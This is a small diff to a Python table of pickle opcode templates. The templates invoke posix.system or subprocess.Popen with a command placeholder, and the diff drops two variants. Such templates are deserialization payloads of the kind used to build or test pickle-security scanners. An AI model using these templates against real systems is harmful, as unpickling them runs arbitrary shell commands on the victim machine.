@@ -38,9 +38,7 @@ def text(s: str) -> bytes:
 CALLS = {
     "reduce": b"cposix\nsystem\n" + b"%s\x85R",
     "stack_global": text("posix") + text("system") + b"\x93%s\x85R",
-    "inst": b"(%siposix\nsystem\n",
     "newobj": b"csubprocess\nPopen\n%s\x85\x81",
-    "build": b"cbuiltins\nobject\n)\x81}" + text("__setstate__") + b"%ssb",
     "persid": b"Pposix.system\n", "extension": b"\x82\x01",
 }
 
